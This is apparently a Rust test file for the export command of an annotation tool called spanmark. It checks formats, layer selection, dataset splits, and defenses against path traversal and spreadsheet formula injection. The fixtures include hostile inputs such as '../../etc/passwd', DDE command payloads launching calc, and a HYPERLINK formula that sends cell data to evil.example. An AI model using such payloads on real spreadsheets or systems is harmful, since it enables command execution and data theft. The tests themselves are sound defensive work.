//! `spanmark export`: every format from the CLI, layer choice, splits,
//! dropped nested spans for IOB2, and file names that never escape --out.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests may panic on broken fixtures

use std::path::Path;

mod common;

use assert_cmd::Command;
use jiff::Timestamp;
use spanmark::io::formats::{ExportFormat, ExportOptions, LayerChoice, Split, export};
use spanmark::io::save_project;
use spanmark::model::{DocStatus, Document, LabelSchema, LayerId, Project, Span};

const SAMPLE: &str = "sample-projects/kp-wssp-abduction-attempt.spanmark.json";

fn spanmark() -> Command {
    Command::cargo_bin("spanmark").unwrap()
}

/// Every record of a CSV file, read back with the csv crate.
fn csv_rows(path: &Path) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)
        .unwrap()
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

fn files_under(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            out.extend(files_under(&p));
        } else {
            out.push(p.to_string_lossy().into_owned());
        }
    }
    out.sort();
    out
}

#[test]
fn every_format_exports_the_sample() {
    let dir = tempfile::tempdir().unwrap();
    let expected: &[(&str, &[&str])] = &[
        ("jsonl", &["data.jsonl"]),
        ("conll", &["data.conll"]),
        ("hf", &["train.jsonl", "README.md"]),
        (
            "brat",
            &[
                "kp-wssp-abduction-attempt.txt",
                "kp-wssp-abduction-attempt.ann",
                "annotation.conf",
                "visual.conf",
            ],
        ),
        ("doccano", &["data.doccano.jsonl"]),
        (
            "label-studio",
            &["data.label-studio.json", "label_config.xml"],
        ),
        ("csv", &["data.csv"]),
        ("events", &["events.csv", "events.jsonl"]),
    ];
    for (format, files) in expected {
        let out = dir.path().join(format);
        let o = spanmark()
            .args(["export", SAMPLE, "--format", format, "--out"])
            .arg(&out)
            .output()
            .unwrap();
        assert!(
            o.status.success(),
            "{format}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        let summary = String::from_utf8(o.stdout).unwrap();
        assert!(
            summary.contains("exported 1 document(s), 115 span(s) from layer ayesha.siddiqui"),
            "{summary}"
        );
        for f in *files {
            assert!(out.join(f).is_file(), "{format}: {f} missing");
        }
    }
    // Nested spans cannot be IOB2: CoNLL lists what it dropped, with document and offsets.
    let o = spanmark()
        .args(["export", SAMPLE, "--format", "conll", "--out"])
        .arg(dir.path().join("c2"))
        .output()
        .unwrap();
    let summary = String::from_utf8(o.stdout).unwrap();
    assert!(summary.contains("9 span(s) left out"), "{summary}");
    assert!(
        summary.contains(
            "kp-wssp-abduction-attempt 43-47 ACTOR: overlaps a span that was kept (IOB2 cannot nest)"
        ),
        "{summary}"
    );
    let o = spanmark()
        .args(["export", SAMPLE, "--format", "nope", "--out", "x"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&o.stderr).contains("unknown format"));
}

fn two_layer_project() -> Project {
    let mut p = Project::new(LabelSchema::default());
    for (i, name) in [
        "../../etc/passwd",
        "CON",
        "a/b",
        "",
        &"x".repeat(300),
        "a\\b",
    ]
    .iter()
    .enumerate()
    {
        let mut d = Document::new(format!("d{i}"), *name, format!("Bannu {i} Karak"));
        d.status = if i % 2 == 0 {
            DocStatus::Done
        } else {
            DocStatus::Todo
        };
        for (layer, label) in [("alice", "LOCATION"), ("bob", "ACTOR")] {
            let span = Span::new(
                p.allocate_span_id(),
                0,
                5,
                label,
                d.char_len(),
                Timestamp::UNIX_EPOCH,
            )
            .unwrap();
            d.layer_mut(&LayerId::Annotator(layer.into()))
                .insert(span)
                .unwrap();
            p.ensure_annotator(layer);
        }
        p.add_document(d).unwrap();
    }
    p
}

#[test]
fn two_layers_need_a_choice() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("p.spanmark.json");
    save_project(&two_layer_project(), &path).unwrap();
    let o = spanmark()
        .arg("export")
        .arg(&path)
        .args(["--format", "csv", "--out"])
        .arg(dir.path().join("o"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "a usage error");
    let err = String::from_utf8(o.stderr).unwrap();
    assert!(
        err.contains("alice, bob") && err.contains("--layer"),
        "{err}"
    );
    let o = spanmark()
        .arg("export")
        .arg(&path)
        .args(["--format", "csv", "--layer", "bob", "--only-done", "--out"])
        .arg(dir.path().join("o"))
        .output()
        .unwrap();
    assert!(o.status.success());
    let rows = csv_rows(&dir.path().join("o").join("data.csv"));
    assert_eq!(rows.len(), 1 + 3, "header plus the three done documents");
    assert!(
        rows[1..].iter().all(|r| r[3] == "ACTOR" && r[4] == "Bannu"),
        "{rows:?}"
    );
}

#[test]
fn hostile_document_ids_never_escape_the_folder() {
    // Ids come from colleagues' files, so they can be anything non-empty and unique.
    let ids = [
        "../../etc/passwd",
        "CON",
        "a/b",
        "a\\b",
        "...",
        &"x".repeat(300),
        "COM¹",
        "lpt³.txt",
        "Com0",
    ];
    let mut p = Project::new(LabelSchema::default());
    p.ensure_annotator("alice");
    for id in ids {
        p.add_document(Document::new(id, id, "Bannu".to_string()))
            .unwrap();
    }
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let options = ExportOptions {
        layer: LayerChoice::Annotator("alice".into()),
        ..Default::default()
    };
    let summary = export(&p, ExportFormat::Brat, &out, &options).unwrap();
    let mut files = files_under(&out);
    let manifest = out
        .join(".spanmark-export.json")
        .to_string_lossy()
        .into_owned();
    assert!(files.contains(&manifest), "{files:?}");
    files.retain(|f| *f != manifest);
    assert_eq!(files.len(), ids.len() * 2 + 2, "{files:?}");
    let out_str = out.to_string_lossy().into_owned();
    for f in &files {
        assert!(f.starts_with(&out_str), "{f} is outside {out_str}");
        let name = Path::new(f)
            .file_name()
            .unwrap()
            .to_string_lossy()
            .into_owned();
        assert!(
            !name.starts_with('.') && name.chars().count() <= 110,
            "{name}"
        );
        let device = name.split('.').next().unwrap().to_uppercase();
        assert!(
            !["CON", "COM¹", "LPT³", "COM0"].contains(&device.as_str()),
            "{name} is a Windows device name"
        );
    }
    assert_eq!(summary.files.len(), files.len());
    assert!(!dir.path().join("etc").exists());
}

#[test]
fn split_is_deterministic_and_never_splits_a_document() {
    let p = common::one_span_documents("d", 20);
    let dir = tempfile::tempdir().unwrap();
    let run = |seed: u64, out: &str| {
        let options = ExportOptions {
            split: Some(Split::parse("train=0.8,dev=0.1,test=0.1", seed).unwrap()),
            ..Default::default()
        };
        export(&p, ExportFormat::Hf, &dir.path().join(out), &options).unwrap();
        ["train", "validation", "test"].map(|s| {
            std::fs::read_to_string(dir.path().join(out).join(format!("{s}.jsonl"))).unwrap()
        })
    };
    let a = run(7, "a");
    assert_eq!(a, run(7, "b"));
    assert_ne!(a, run(8, "c"));
    assert_eq!(
        a.iter().map(|s| s.lines().count()).collect::<Vec<_>>(),
        [16, 2, 2]
    );
    let card = std::fs::read_to_string(dir.path().join("a").join("README.md")).unwrap();
    assert!(
        card.contains("- split: validation\n    path: validation.jsonl"),
        "{card}"
    );
}

/// A project whose every text cell (document id, label, span text, note,
/// annotator) is one of `cells`, one document per cell.
fn formula_project(cells: &[&str]) -> Project {
    let mut p = Project::new(LabelSchema::default());
    for (i, cell) in cells.iter().enumerate() {
        // Document ids must be unique: the cell, then a number.
        let id = format!("{cell}{i}");
        let text = format!("{cell} in Bannu");
        let mut d = Document::new(id.clone(), id, text.clone());
        let len = cell.chars().count();
        let mut span = Span::new(
            p.allocate_span_id(),
            0,
            len,
            "LOCATION",
            d.char_len(),
            Timestamp::UNIX_EPOCH,
        )
        .unwrap();
        span.set_note((*cell).to_string());
        d.layer_mut(&LayerId::Annotator("alice".into()))
            .insert(span)
            .unwrap();
        p.add_document(d).unwrap();
    }
    p.ensure_annotator("alice");
    p
}

#[test]
fn csv_cells_that_would_be_formulas_get_a_quote_unless_raw() {
    let live = [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")",
        "=1+1",
        "+1",
        "-2",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A3)",
        "\t=1+1",
        "\r=1+1",
    ];
    let inert = [
        "1-2",
        "Bannu",
        "“Karak”",
        "بنوں",
        "🙂=1",
        " =1",
        "a;=1+1",
        "'=quoted",
    ];
    let all: Vec<&str> = live.iter().chain(&inert).copied().collect();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("p.spanmark.json");
    save_project(&formula_project(&all), &path).unwrap();
    let run = |out: &str, raw: bool| {
        let mut cmd = spanmark();
        cmd.arg("export")
            .arg(&path)
            .args(["--format", "csv", "--out"])
            .arg(dir.path().join(out));
        if raw {
            cmd.arg("--raw");
        }
        let o = cmd.output().unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let rows = csv_rows(&dir.path().join(out).join("data.csv"));
        assert_eq!(rows.len(), 1 + all.len());
        rows
    };
    let safe = run("safe", false);
    let raw = run("raw", true);
    for (i, cell) in all.iter().enumerate() {
        let want = if live.contains(cell) {
            format!("'{cell}")
        } else {
            cell.to_string()
        };
        let id = format!("{cell}{i}");
        let row = safe.iter().find(|r| r[5] == want).unwrap();
        // document, text and note: neutralized alike; offsets stay numbers.
        let want_id = if live.contains(cell) {
            format!("'{id}")
        } else {
            id.clone()
        };
        assert_eq!((&row[0], &row[4]), (&want_id, &want), "{cell:?}");
        assert_eq!(
            (&row[1], &row[2]),
            (&"0".to_string(), &cell.chars().count().to_string())
        );
        let row = raw.iter().find(|r| r[0] == id).unwrap();
        assert_eq!(
            (&row[4], &row[5]),
            (&cell.to_string(), &cell.to_string()),
            "{cell:?}"
        );
    }
    // Every text cell is quoted, so a ; or tab cannot start a cell in a spreadsheet
    // that splits on it; raw writes the minimal quoting of earlier versions.
    let bytes = std::fs::read_to_string(dir.path().join("safe").join("data.csv")).unwrap();
    assert!(bytes.contains("\"a;=1+1\""), "{bytes}");
    let bytes = std::fs::read_to_string(dir.path().join("raw").join("data.csv")).unwrap();
    assert!(bytes.contains(",a;=1+1,"), "{bytes}");
}

#[test]
fn csv_labels_and_annotators_are_neutralized_too() {
    let mut p = formula_project(&["Bannu"]);
    let layer = p.documents[0].layers.remove("alice").unwrap();
    let mut span = layer.iter().next().unwrap().clone();
    span.label = "=cmd".into();
    let mut l = spanmark::model::Layer::default();
    l.insert(span).unwrap();
    p.documents[0].layers.insert("@evil".into(), l);
    p.schema.ensure("=cmd");
    p.ensure_annotator("@evil");
    let dir = tempfile::tempdir().unwrap();
    let options = ExportOptions {
        layer: LayerChoice::Annotator("@evil".into()),
        ..Default::default()
    };
    export(&p, ExportFormat::Csv, &dir.path().join("s"), &options).unwrap();
    let rows = csv_rows(&dir.path().join("s").join("data.csv"));
    assert_eq!(
        (rows[1][3].as_str(), rows[1][6].as_str()),
        ("'=cmd", "'@evil")
    );
    let raw = ExportOptions {
        raw: true,
        ..options
    };
    export(&p, ExportFormat::Csv, &dir.path().join("r"), &raw).unwrap();
    let rows = csv_rows(&dir.path().join("r").join("data.csv"));
    assert_eq!(
        (rows[1][3].as_str(), rows[1][6].as_str()),
        ("=cmd", "@evil")
    );
}

/// Two events with one verb, and an operation with a count in digits and a
/// `value` attribute that wins over the text.
fn events_project() -> Project {
    use spanmark::model::{Command, Frame};
    let text = "Security forces said four militants were killed in Bajaur and one in Khyber. \
                Forces conducted an operation in North Waziristan, eliminating 15 militants.";
    let mut p = Project::new(LabelSchema::default());
    p.ensure_annotator("a");
    let mut doc = Document::new("kp", "KP", text.into());
    doc.date = Some(jiff::civil::date(2025, 3, 14));
    p.add_document(doc).unwrap();
    let layer = LayerId::Annotator("a".into());
    let n = text.chars().count();
    let add = |p: &mut Project, word: &str, label: &str, nth: usize| {
        let s = text.match_indices(word).nth(nth).unwrap().0;
        let id = p.allocate_span_id();
        let mut span = Span::new(id, s, s + word.len(), label, n, Timestamp::UNIX_EPOCH).unwrap();
        if word == "15 militants" {
            span.set_attribute("value".into(), "15".into());
        }
        Command::AddSpan {
            doc: "kp".into(),
            layer: layer.clone(),
            span,
        }
        .apply(p)
        .unwrap();
        id
    };
    let forces = add(&mut p, "Security forces", "ACTOR", 0);
    let killed = add(&mut p, "killed", "EVENT", 0);
    let four = add(&mut p, "four militants", "COUNT", 0);
    let bajaur = add(&mut p, "Bajaur", "LOCATION", 0);
    let one = add(&mut p, "one", "COUNT", 0);
    let khyber = add(&mut p, "Khyber", "LOCATION", 0);
    let op = add(&mut p, "conducted an operation", "EVENT", 0);
    let nw = add(&mut p, "North Waziristan", "LOCATION", 0);
    let fifteen = add(&mut p, "15 militants", "COUNT", 0);
    let frames = [
        (
            op,
            vec![("agent", forces), ("location", nw), ("count", fifteen)],
            "=cmd|' /C calc'!A0",
        ),
        (
            killed,
            vec![("agent", forces), ("count", four), ("location", bajaur)],
            "",
        ),
        (killed, vec![("count", one), ("location", khyber)], ""),
    ];
    for (trigger, slots, note) in frames {
        let mut f = Frame::new(p.allocate_frame_id(), trigger);
        for (role, span) in slots {
            f = f.with_slot(role, span);
        }
        f.event_type = Some("Battles".into());
        f.note = note.into();
        Command::AddFrame {
            doc: "kp".into(),
            layer: layer.clone(),
            frame: f,
        }
        .apply(&mut p)
        .unwrap();
    }
    p
}

#[test]
fn the_event_table_has_a_row_per_frame_with_counts_read() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("events.spanmark.json");
    save_project(&events_project(), &path).unwrap();
    let out = dir.path().join("out");
    let o = spanmark()
        .args(["export"])
        .arg(&path)
        .args(["--format", "events", "--out"])
        .arg(&out)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let summary = String::from_utf8(o.stdout).unwrap();
    assert!(
        summary.contains("3 event(s) in the event table"),
        "{summary}"
    );

    let rows = csv_rows(&out.join("events.csv"));
    assert_eq!(
        rows[0],
        [
            "event_id",
            "document",
            "event_date",
            "event_type",
            "trigger",
            "trigger_start",
            "trigger_end",
            "agent",
            "target",
            "location",
            "count_text",
            "count_value",
            "annotator",
            "note"
        ]
    );
    assert_eq!(rows.len(), 4, "a header and one row per frame");
    // Reading order: the two Bajaur/Khyber events share "killed", then the operation.
    let col =
        |r: &Vec<String>, name: &str| r[rows[0].iter().position(|h| h == name).unwrap()].clone();
    let bajaur = &rows[1];
    assert_eq!(col(bajaur, "trigger"), "killed");
    assert_eq!(col(bajaur, "location"), "Bajaur");
    assert_eq!(col(bajaur, "count_text"), "four militants");
    assert_eq!(col(bajaur, "count_value"), "4", "read from the number word");
    assert_eq!(col(bajaur, "agent"), "Security forces");
    let khyber = &rows[2];
    assert_eq!(
        (col(khyber, "location"), col(khyber, "count_value")),
        ("Khyber".into(), "1".into())
    );
    let nw = &rows[3];
    assert_eq!(col(nw, "location"), "North Waziristan");
    assert_eq!(col(nw, "count_value"), "15");
    assert_eq!(col(nw, "event_type"), "Battles");
    assert_eq!(col(nw, "event_date"), "2025-03-14", "the document's date");
    assert_eq!(col(nw, "annotator"), "a");
    assert!(
        col(nw, "note").starts_with("'="),
        "a formula-like note is neutralized"
    );

    let lines: Vec<serde_json::Value> = std::fs::read_to_string(out.join("events.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 3);
    assert_eq!(lines[2]["count_value"], 15);
    assert_eq!(lines[2]["event_date"], "2025-03-14");
    assert_eq!(
        lines[2]["location"],
        serde_json::json!(["North Waziristan"])
    );
    assert_eq!(
        lines[0]["count_text"],
        serde_json::json!(["four militants"])
    );
    assert_eq!(
        lines[2]["note"], "=cmd|' /C calc'!A0",
        "JSON Lines keep the text exactly"
    );
    let text = events_project().documents[0].text().to_string();
    let (s, e) = (
        lines[2]["trigger_start"].as_u64().unwrap() as usize,
        lines[2]["trigger_end"].as_u64().unwrap() as usize,
    );
    let chars: Vec<char> = text.chars().collect();
    assert_eq!(
        chars[s..e].iter().collect::<String>(),
        "conducted an operation"
    );

    // A token format says what it cannot carry.
    let o = spanmark()
        .args(["export"])
        .arg(&path)
        .args(["--format", "conll", "--out"])
        .arg(dir.path().join("conll"))
        .output()
        .unwrap();
    let summary = String::from_utf8(o.stdout).unwrap();
    assert!(
        summary.contains("3 event frame(s) not exported"),
        "{summary}"
    );
}

#[test]
fn the_sample_projects_event_table_has_a_row_per_hand_annotated_frame() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let o = spanmark()
        .args([
            "export",
            "sample-projects/kp-wssp-abduction-attempt.spanmark.json",
        ])
        .args(["--format", "events", "--out"])
        .arg(&out)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let sample = spanmark::sample::sample_project().unwrap();
    let frames: usize = sample
        .documents
        .iter()
        .map(|d| d.layers.values().map(|l| l.frames().count()).sum::<usize>())
        .sum();
    assert!(frames >= 10, "the sample's frames are annotated ({frames})");
    let rows = csv_rows(&out.join("events.csv"));
    assert_eq!(rows.len(), frames + 1, "a header and one row per frame");
    let col =
        |r: &Vec<String>, name: &str| r[rows[0].iter().position(|h| h == name).unwrap()].clone();
    let at = |place: &str| {
        let found: Vec<&Vec<String>> = rows
            .iter()
            .filter(|r| col(r, "location") == place)
            .collect();
        assert_eq!(found.len(), 1, "one event in {place}");
        found[0]
    };
    let nw = at("North Waziristan");
    assert_eq!(col(nw, "trigger"), "conducted a large-scale operation");
    assert_eq!(col(nw, "count_text"), "15 militants");
    assert_eq!(col(nw, "count_value"), "15");
    assert_eq!(col(nw, "agent"), "security forces");
    assert_eq!(col(nw, "event_type"), "Battles");
    let bajaur = at("Bajaur");
    assert_eq!(col(bajaur, "trigger"), "killed");
    assert_eq!(col(bajaur, "count_value"), "4");
    let khyber = at("Khyber");
    assert_eq!(col(khyber, "trigger"), "killed", "one verb, two events");
    assert_eq!(col(khyber, "count_value"), "1");
    let karak = at("Karak");
    assert_eq!(col(karak, "count_value"), "18");
    assert!(
        rows.iter()
            .any(|r| col(r, "trigger") == "attempted to abduct"
                && col(r, "event_type") == "Violence against civilians"),
        "the attempted abduction in Bannu"
    );
}
